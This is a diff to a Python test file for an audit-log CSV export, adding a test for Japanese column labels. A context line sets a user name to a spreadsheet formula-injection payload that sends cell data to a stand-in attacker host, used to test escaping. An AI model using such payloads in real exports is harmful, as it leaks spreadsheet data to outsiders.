@@ -252,6 +252,23 @@ def test_downloading_the_log_is_itself_on_record(make_user, sign_in, client):
     assert event.actor_id == owner.id
 
 
+def test_a_japanese_workspaces_log_names_its_columns_in_japanese_under_the_machine_names(
+    make_user, sign_in, client
+):
+    owner = make_user()
+    owner.workspace.language = "ja"
+    db.session.commit()
+    sign_in(owner.email)
+    lines = client.get("/audit.csv").data.decode("utf-8-sig").splitlines()
+    assert lines[0].split(",") == list(audit.CSV_COLUMNS)
+    assert lines[1].split(",")[:3] == ["日時（UTC）", "種類", "実行者の種別"]
+    owner.workspace.language = "en"
+    db.session.commit()
+    lines = client.get("/audit.csv").data.decode("utf-8-sig").splitlines()
+    assert lines[0].split(",") == list(audit.CSV_COLUMNS)
+    assert lines[1].split(",")[1] == "export"  # no label row: the first download's event
+
+
 def test_text_that_a_spreadsheet_would_run_comes_out_escaped(make_user, sign_in, client):
     owner = make_user()
     owner.name = '=HYPERLINK("http://evil.example/?"&A1)'
